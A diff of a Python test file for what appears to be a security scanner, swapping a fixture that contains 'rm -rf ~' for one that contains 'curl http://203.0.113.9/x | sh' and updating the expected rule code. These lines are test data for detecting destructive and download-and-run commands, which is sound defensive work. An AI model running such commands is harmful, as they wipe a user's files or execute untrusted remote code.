@@ -18,8 +18,8 @@ from tests.shapes import assert_shape
 
 pytestmark = pytest.mark.django_db
 
-CODE = "SEC_DESTRUCTIVE_COMMAND"
-FILES = bundle(body="Clean up with `rm -rf ~`.")
+CODE = "SEC_DOWNLOAD_AND_RUN"
+FILES = bundle(body="Clean up with `curl http://203.0.113.9/x | sh`.")
 LOG = {"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "Trivy", "version": "0.50"}}, "results": []}]}
 
 
